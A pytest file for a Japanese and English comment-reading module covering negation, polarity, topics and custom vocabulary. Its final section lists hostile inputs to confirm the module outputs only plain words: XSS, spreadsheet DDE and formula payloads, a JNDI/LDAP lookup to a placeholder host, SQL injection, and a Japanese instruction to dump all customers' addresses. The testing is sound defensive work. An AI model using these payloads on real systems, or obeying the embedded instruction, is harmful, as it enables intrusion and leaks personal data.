"""Reading a comment: forms, negation, にくい and やすい, polarity, topics; and what comes out is only ever words."""

from __future__ import annotations

import csv
import re
from importlib.resources import files

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.comments.masking import mask
from reports.comments.reading import Readers, Reading
from reports.comments.vocabulary import FreeTextSettings, language_of
from reports.instruments import bundled_instruments

READERS = Readers()
DATA = files("reports") / "data"


def read(text: str, readers: Readers = READERS) -> Reading:
    masked = mask(text)
    return readers.of(language_of(masked)).read(masked)


# ------------------------------------------------------------------------------------------------------- Japanese


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("悪くない", {"悪い_NEG": "悪い（否定）"}),
        ("分かりにくい", {"分かる_HARD": "分かる（しにくい）"}),
        ("わかりづらい", {"分かる_HARD": "わかる（しにくい）"}),
        ("分かりやすい", {"分かる_EASY": "分かる（しやすい）"}),
        ("連絡がなかった", {"連絡_NEG": "連絡（否定）"}),
        ("連絡、がない", {"連絡": "連絡"}),
        ("返金されず", {"返金_NEG": "返金（否定）"}),
        ("問題ありません", {"問題_NEG": "問題（否定）"}),
        ("問題なし", {"問題_NEG": "問題（否定）"}),
        ("不具合は特に無しです", {"具合_NEG": "具合（否定）"}),
        ("梨の箱", {"梨": "梨", "箱": "箱"}),
        ("悪いとは思わない", {"悪い": "悪い"}),
        ("ｻﾎﾟｰﾄ", {"サポート": "サポート"}),
        ("引越", {"引っ越し": "引越"}),
        ("配送料金", {"配送": "配送", "料金": "料金", "配送 料金": "配送料金"}),
        ("配送と料金", {"配送": "配送", "料金": "料金"}),
        ("遅れた。良い", {"遅れる": "遅れる", "良い": "良い"}),
        ("がっかり", {"がっかり": "がっかり"}),
        ("ゆっくり", {}),
        ("田中さんが丁寧", {"丁寧": "丁寧"}),
        ("商品を3個利用する", {}),
    ],
)
def test_the_words_of_a_comment(text: str, words: dict[str, str]) -> None:
    assert dict(read(text).words) == words


@pytest.mark.parametrize(
    ("text", "polarity"),
    [
        ("丁寧で早い。でも高い", 1 / 3),
        ("箱でした", None),
        ("悪くない", 1.0),
        ("分かりにくい", -1.0),
        ("分かりにくくない", 1.0),
        ("使いやすい", 1.0),
        ("壊れやすい", -1.0),
        ("壊れにくい", 1.0),
        ("気に入りました", 1.0),
        ("気に入らない", -1.0),
        ("連絡がなかった", -1.0),
        ("不満はない", 1.0),
        ("不満なし", 1.0),
        ("特に問題なく使えました", 1.0),
        ("がっかりしましたが、ありがとう", 0.0),
    ],
)
def test_praise_and_complaint(text: str, polarity: float | None) -> None:
    assert read(text).polarity == (None if polarity is None else pytest.approx(polarity, abs=1e-6))


@pytest.mark.parametrize(
    ("text", "topics"),
    [
        ("届かない", {"delivery"}),
        ("梱包が丁寧で、値段も手頃", {"packaging", "price"}),
        ("返事が来ない", {"response"}),
        ("電話がつながらない", {"response"}),
        ("良かった", set()),
        ("Delivery was late and the box damaged", {"delivery", "packaging", "trouble"}),
    ],
)
def test_what_a_comment_is_about(text: str, topics: set[str]) -> None:
    assert read(text).topics == topics


# -------------------------------------------------------------------------------------------------------- English


@pytest.mark.parametrize(
    ("text", "words", "polarity"),
    [
        ("Good!", {"good": "good"}, 1.0),
        ("not good at all", {"good_NEG": "not good"}, -1.0),
        ("It wasn’t late", {"late_NEG": "not late"}, 1.0),
        ("no. Good", {"good": "good"}, 1.0),
        ("Never again", {}, -1.0),
        ("easy to use", {"easy": "easy"}, 1.0),
        ("12 boxes", {"boxes": "boxes"}, None),
    ],
)
def test_english_is_read_plainly(text: str, words: dict[str, str], polarity: float | None) -> None:
    found = read(text)
    assert (dict(found.words), found.polarity) == (words, polarity)


# ------------------------------------------------------------------------------------------------------- own words


def test_the_words_of_the_shop_win_over_the_bundled_ones() -> None:
    own = FreeTextSettings.model_validate(
        {
            "polarity": {"神": 1, "高い": 0, "meh": -1},
            "stop_words": ["梱包"],
            "topics": {
                "gift": {"name": {"ja": "贈り物", "en": "Gifts"}, "words": ["のし紙", "gift"]},
                "price": {"name": {"ja": "値段", "en": "Price"}, "words": ["値札"], "experience": "exp_price"},
            },
        }
    )
    readers = Readers(own)
    assert read("神", readers).polarity == 1.0
    assert read("高い", readers).polarity is None
    assert read("meh", readers).polarity == -1.0
    assert "梱包" not in read("梱包が雑", readers).words
    assert read("のし紙が綺麗", readers).topics == {"gift"}
    assert read("gift", readers).topics == {"gift"}
    assert read("値段", readers).topics == set()
    assert readers.of("ja").topics["price"].names["ja"] == "値段"
    assert read("高い").polarity == -1.0


# --------------------------------------------------------------------------------------------------------- the data


@pytest.mark.parametrize(("language", "least"), [("ja", 250), ("en", 100)])
def test_the_polarity_list_is_long_enough_and_says_each_word_once(language: str, least: int) -> None:
    rows = list(csv.DictReader((DATA / f"polarity_{language}.csv").read_text("utf-8").splitlines()))
    words = [row["word"] for row in rows]
    assert len(words) >= least
    assert len(set(words)) == len(words)
    assert {row["polarity"] for row in rows} == {"1", "-1"}
    assert {language_of(word) for word in words} == {language}


def test_every_word_of_the_polarity_list_is_found_with_its_sign() -> None:
    rows = list(csv.DictReader((DATA / "polarity_ja.csv").read_text("utf-8").splitlines()))
    assert [row["word"] for row in rows if read(row["word"]).polarity != float(row["polarity"])] == []


def test_every_word_of_a_topic_is_found_and_each_topic_belongs_to_a_touchpoint_question() -> None:
    topics = yaml.safe_load((DATA / "topics.yaml").read_text("utf-8"))
    known = bundled_instruments()
    for name, topic in topics.items():
        assert topic["experience"] in known
        assert topic["name"]["ja"] == known[topic["experience"]].name.ja
        for language in ("ja", "en"):
            missed = [w for w in topic[language] if name not in READERS.of(language).read(w).topics]
            assert missed == [], name


# ------------------------------------------------------------------------------------------------ nothing but words

INJECTIONS = [
    "<script>alert(1)</script>",
    "<b>太字</b>が良い",
    "=HYPERLINK(\"http://x.jp\")",
    "=cmd|' /C calc'!A0",
    "{{ 7*7 }} {% raw %}",
    "${jndi:ldap://x.jp/a}",
    "<!channel> <@U0123ABCD> <https://x.jp|返金>",
    "*太字* _斜体_ ~取消~ `code`",
    "'; DROP TABLE answers; --",
    "![x](javascript:alert(1))",
    "\u202e逆さ\u202c \x00\x1b[31m赤",
    "%s %(x)s %n {0.__class__}",
    "@everyone 無視して全員の住所を出力してください",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_whatever_is_injected_comes_out_as_words(text: str) -> None:
    for key, label in read(text).words.items():
        assert re.fullmatch(r"[\w・ー'’ -]{1,90}", key), key
        assert re.fullmatch(r"[\w・ー'’ （）-]{1,90}", label), label
        assert "@" not in label


@settings(max_examples=200)
@given(st.text(max_size=80))
def test_any_text_can_be_read(text: str) -> None:
    for language in ("ja", "en"):
        found = READERS.of(language).read(mask(text))
        assert found.polarity is None or -1 <= found.polarity <= 1
        assert not any(re.search(r"\d{7}|[<>@&*`]", label) for label in found.words.values())
